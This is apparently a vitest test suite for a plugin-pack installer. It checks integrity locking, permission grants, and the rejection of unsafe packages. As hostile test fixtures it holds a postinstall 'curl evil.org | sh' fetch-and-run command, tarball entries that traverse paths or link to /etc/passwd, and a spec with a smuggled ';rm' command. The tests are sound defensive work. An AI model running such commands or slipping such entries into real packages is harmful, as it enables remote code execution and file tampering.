import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { add, addedFolder, addedPacks, examine, remove, trust, verifyAdded } from "../../../runtime/packs/added.ts";
import { integrityOf } from "../../../runtime/packs/files.ts";
import { readLock } from "../../../runtime/packs/lock-file.ts";
import { fetchPack } from "../../../runtime/packs/npm.ts";
import { morePower, needsTrust } from "../../../runtime/packs/permissions.ts";
import { type Entry, packTarball, type PackParts, tarball } from "./tarballs.ts";

let home: string;
beforeEach(async () => { home = await mkdtemp(join(tmpdir(), "packs-")); });
afterEach(() => rm(home, { recursive: true, force: true }));

const look = (parts: PackParts = {}, taken: readonly string[] = []) => {
  const bytes = packTarball(parts);
  return examine(home, { tarball: bytes, integrity: integrityOf(bytes), from: "sparkle" }, new Set(taken));
};
const lookAt = (entries: readonly Entry[]) => {
  const bytes = tarball(entries);
  return examine(home, { tarball: bytes, integrity: integrityOf(bytes), from: "bad" }, new Set());
};
const left = async () => (await readdir(join(home, ".reelwright", "packs")).catch(() => [])).filter((name) => name.startsWith("."));

describe("a pack that is added", () => {
  test("is unpacked, locked with what it is and what it was granted, and found again", async () => {
    const candidate = await look({ manifest: { permissions: { services: ["writer"], network: ["api.pexels.com"] } } });
    expect(candidate.asks).toEqual({ services: ["writer"], network: ["api.pexels.com"] });
    await add(home, candidate, { services: ["writer"] });
    expect(await readLock(home)).toEqual({ sparkle: { version: "1.0.0", from: "sparkle", integrity: expect.stringMatching(/^sha512-/), files: candidate.files, granted: { services: ["writer"] } } });
    const { folders, missing } = await addedPacks(home);
    expect([folders.map(({ manifest }) => manifest.name), missing]).toEqual([["sparkle"], {}]);
    await verifyAdded(folders[0]!);
    expect(await left()).toEqual([]);
  });

  test("is written so that a change of the lock can be reviewed", async () => {
    await add(home, await look(), {});
    const text = await readFile(join(home, "reelwright.lock.json"), "utf8");
    expect(text).toMatch(/^\{\n  "format": "reelwright\/lock@1",\n  "packs": \{\n    "sparkle": \{\n/);
  });

  test("tells on an update what it asks for beyond before", async () => {
    await add(home, await look({ manifest: { permissions: { network: ["a.org"] } } }), { network: ["a.org"] });
    const next = await look({ manifest: { version: "2.0.0", permissions: { network: ["a.org", "b.org"], services: ["speech"] } }, packageJson: { version: "2.0.0" } });
    expect(next.before?.version).toBe("1.0.0");
    expect(morePower(next.before!.granted, next.asks)).toEqual({ network: ["b.org"], services: ["speech"] });
    expect([needsTrust(next.asks), needsTrust({ programs: ["ffmpeg"] })]).toEqual([false, true]);
    await next.discard();
    expect(await left()).toEqual([]);
  });

  test("does not run when its files are not those that were added", async () => {
    await add(home, await look(), {});
    await writeFile(join(addedFolder(home, "sparkle", "1.0.0"), "pack.js"), "export default {}");
    const { folders } = await addedPacks(home);
    await expect(verifyAdded(folders[0]!)).rejects.toMatchObject({ problem: { code: "PACK_CHANGED" } });
  });

  test("does not run when a link was put among its files, or when they are gone", async () => {
    await add(home, await look(), {});
    const { folders } = await addedPacks(home);
    await symlink("/etc/passwd", join(addedFolder(home, "sparkle", "1.0.0"), "link.js"));
    await expect(verifyAdded(folders[0]!)).rejects.toMatchObject({ problem: { code: "PACK_CHANGED" } });
    await rm(addedFolder(home, "sparkle", "1.0.0"), { recursive: true });
    await expect(verifyAdded(folders[0]!)).rejects.toMatchObject({ problem: { code: "PACK_CHANGED" } });
  });

  test("is known by the lock alone in a fresh checkout", async () => {
    await add(home, await look(), {});
    await rm(join(home, ".reelwright"), { recursive: true });
    const { folders, missing } = await addedPacks(home);
    expect([folders, Object.keys(missing)]).toEqual([[], ["sparkle"]]);
  });

  test("can be trusted, mistrusted and removed", async () => {
    await add(home, await look(), {});
    await trust(home, "sparkle", true);
    expect((await readLock(home))["sparkle"]!.trusted).toBe(true);
    await trust(home, "sparkle", false);
    expect((await readLock(home))["sparkle"]).not.toHaveProperty("trusted");
    await expect(trust(home, "other", true)).rejects.toMatchObject({ problem: { code: "PACK_NOT_ADDED" } });
    expect([await remove(home, "sparkle"), await remove(home, "sparkle")]).toEqual([true, false]);
    expect(await addedPacks(home)).toEqual({ folders: [], missing: {} });
  });
});

describe("what is refused before anything of it runs", () => {
  test.each<[string, PackParts, string]>([
    ["a name that is taken", { manifest: { name: "script" } }, "PACK_NAME_TAKEN"],
    ["a script at installation", { packageJson: { scripts: { postinstall: "curl evil.org | sh" } } }, "PACK_SCRIPTS"],
    ["other packages", { packageJson: { dependencies: { "left-pad": "*" } } }, "PACK_DEPENDENCIES"],
    ["other packages, optionally", { packageJson: { optionalDependencies: { "left-pad": "*" } } }, "PACK_DEPENDENCIES"],
    ["two versions", { packageJson: { version: "1.0.1" } }, "PACK_UNREADABLE"],
    ["a power that is none", { manifest: { permissions: { everything: ["*"] } } }, "PACK_PERMISSIONS"],
    ["every host", { manifest: { permissions: { network: ["*"] } } }, "PACK_PERMISSIONS"],
    ["a manifest that is none", { manifest: { entry: "../../evil.js" } }, "PACK_UNREADABLE"],
  ])("%s", async (_what, parts, code) => {
    await expect(look(parts, ["script", "core"])).rejects.toMatchObject({ problem: { code } });
    expect(await left()).toEqual([]);
  });

  test.each(["../../../../evil", "1.0.0/../../..", "..", "", "1.0", "latest", "^1.0.0", "1.0.0\u0000", "C:\\\\evil", "1.0.0 "])("a version that is none, of which a folder would be named: %j", async (version) => {
    await mkdir(join(home, "precious"));
    await expect(look({ manifest: { version }, packageJson: { version } })).rejects.toMatchObject({ problem: { code: "PACK_UNREADABLE" } });
    await writeFile(join(home, "reelwright.lock.json"), JSON.stringify({ format: "reelwright/lock@1", packs: { sparkle: { version, from: "x", integrity: "sha512-AA==", files: "0".repeat(64), granted: {} } } }));
    await expect(readLock(home)).rejects.toMatchObject({ problem: { code: "LOCK_INVALID" } });
    expect(await readdir(home)).toContain("precious");
  });

  test.each(["./../../evil.js", "./a/../../evil.js", "./.."])("an entry outside of its folder: %s", async (entry) => {
    await expect(look({ manifest: { entry } })).rejects.toMatchObject({ problem: { code: "PACK_UNREADABLE" } });
  });

  test.each(["*.com", "*", "*.", "https://a.org", "a.org/path", "a.org:x", "user@a.org"])("the host %s", async (host) => {
    await expect(look({ manifest: { permissions: { network: [host] } } })).rejects.toMatchObject({ problem: { code: "PACK_PERMISSIONS" } });
  });

  const good: Entry[] = [{ path: "package/package.json", content: "{}" }];
  test.each<[string, Entry[]]>([
    ["a file above the folder", [{ path: "package/../../evil.js", content: "x" }]],
    ["a file from the root", [{ path: "/etc/cron.d/evil", content: "x" }]],
    ["a file on a drive", [{ path: "C:/evil.js", content: "x" }]],
    ["backslashes", [{ path: "package\\..\\..\\evil.js", content: "x" }]],
    ["a symbolic link", [{ path: "package/link", type: "SymbolicLink", linkpath: "/etc/passwd" }]],
    ["a hard link", [{ path: "package/link", type: "Link", linkpath: "package/package.json" }]],
    ["a device", [{ path: "package/null", type: "CharacterDevice" }]],
    ["a pipe", [{ path: "package/pipe", type: "FIFO" }]],
    ["a file outside its folder", [{ path: "evil.js", content: "x" }]],
    ["two files of one name", [{ path: "package/a.js", content: "x" }, { path: "package/A.js", content: "y" }]],
    ["a file in a file", [{ path: "package/a", content: "x" }, { path: "package/a/b.js", content: "y" }]],
    ["a folder where a file is", [{ path: "package/a/b.js", content: "y" }, { path: "package/A", content: "x" }]],
    ["a name that is a device elsewhere", [{ path: "package/nul.js", content: "x" }]],
    ["installed packages", [{ path: "package/node_modules/evil/index.js", content: "x" }]],
    ["a name with a control character", [{ path: "package/a\u0007b.js", content: "x" }]],
    ["too many files", Array.from({ length: 2001 }, (_, index) => ({ path: `package/f${index}.js` }))],
  ])("a tarball with %s", async (_what, entries) => {
    await expect(lookAt([...good, ...entries])).rejects.toMatchObject({ problem: { code: "PACK_TARBALL" } });
    expect(await left()).toEqual([]);
    expect(await readdir(home)).toEqual([".reelwright"]);
  });

  test("few bytes that unpack to very many are not unpacked to their end", async () => {
    const entries = Array.from({ length: 40 }, (_, index) => ({ path: `package/f${index}`, content: Buffer.alloc(8 * 2 ** 20) }));
    const bytes = tarball(entries);
    const before = process.memoryUsage().rss;
    await expect(examine(home, { tarball: bytes, integrity: integrityOf(bytes), from: "bad" }, new Set())).rejects.toMatchObject({ problem: { code: "PACK_TARBALL", message: expect.stringContaining("64 MB") } });
    expect(process.memoryUsage().rss - before).toBeLessThan(250 * 2 ** 20);
  });

  test("bytes that are no tarball, and one that unpacks without an end", async () => {
    for (const bytes of [new Uint8Array(0), new Uint8Array(2000).fill(7), tarball([]), tarball([{ path: "package/big", content: Buffer.alloc(70 * 2 ** 20) }])]) {
      await expect(examine(home, { tarball: bytes, integrity: integrityOf(bytes), from: "bad" }, new Set())).rejects.toMatchObject({ problem: { code: "PACK_TARBALL" } });
    }
    expect(await left()).toEqual([]);
  });
});

describe("fetching", () => {
  test("packs a folder without running any script of it, and reads a tarball as it is", async () => {
    const folder = join(home, "sparkle");
    await mkdir(folder);
    await writeFile(join(folder, "package.json"), JSON.stringify({ name: "sparkle", version: "1.0.0", scripts: { prepack: "touch ran", prepare: "touch ran" } }));
    await writeFile(join(folder, "pack.js"), "export default {}");
    const fetched = await fetchPack("./sparkle", home);
    expect(await readdir(folder)).toEqual(["pack.js", "package.json"]);
    await writeFile(join(home, "sparkle.tgz"), fetched.tarball);
    expect(await fetchPack("sparkle.tgz", home)).toMatchObject({ integrity: fetched.integrity, from: "sparkle.tgz" });
  });

  test("refuses addresses and whatever is no name", async () => {
    for (const spec of ["https://evil.org/x.tgz", "git+ssh://evil.org/x", "github:evil/x", "--registry=https://evil.org", "../nowhere", "a b;rm", ""]) {
      await expect(fetchPack(spec, home)).rejects.toMatchObject({ problem: { code: expect.stringMatching(/^PACK_(SPEC|NOT_FETCHED)$/) } });
    }
  });
});
